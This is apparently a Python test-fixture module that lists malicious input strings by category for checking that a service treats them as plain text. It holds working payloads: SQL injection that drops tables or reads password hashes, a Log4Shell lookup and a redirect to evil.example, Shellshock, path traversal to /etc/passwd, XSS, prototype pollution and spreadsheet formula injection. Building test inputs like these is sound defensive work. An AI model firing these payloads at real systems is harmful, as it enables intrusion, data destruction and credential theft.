"""Texts that would do something if a program took them for more than text, by the language they speak."""

from __future__ import annotations

SQL = (
    "' or '1'='1",
    "'; drop table serving.products; --",
    "1; select pg_sleep(30)",
    "x' union select rolpassword from pg_authid --",
    "$$; copy (select 1) to program 'touch /tmp/owned'; $$",
    "%s %(visitor_id)s {} {0.__class__} $1",
    "\\'; delete from serving.trending_lists; --",
)
HEADER = (
    "x\r\nset-cookie: owned=1",
    "x\nlocation: https://evil.example/",
    "127.0.0.1, 203.0.113.9",
    "${jndi:ldap://evil.example/a}",
    "() { :; }; touch /tmp/owned",
)
PATH = (
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "..\\..\\windows\\win.ini",
)
JSON = (
    '{"__proto__": {"admin": true}}',
    '{"constructor": {"prototype": {"admin": true}}}',
    '"},"userId":"42","x":{"y":"',
    "[" * 300,
    '{"$ne": null}',
)
UNICODE = (
    "\u202egnp.exe",
    "\ufeffadmin",
    "a\u0300" * 60,
    "\u0130\u0131\ufb01\u212a",
    "\ud83d\ude00" * 40,
    "\u2028alert(1)\u2029",
    "ad\u200bmin",
)
MARKUP = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "javascript:alert(1)", "{{7*7}}")
FORMULA = ("=1+1", "=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("https://evil.example")')

# JSON's escapes of a text that no UTF-8 has would be refused before anybody looks at it
UNICODE = tuple(text.encode("utf-16", "surrogatepass").decode("utf-16") for text in UNICODE)
EVERY = (*SQL, *HEADER, *PATH, *JSON, *UNICODE, *MARKUP, *FORMULA)
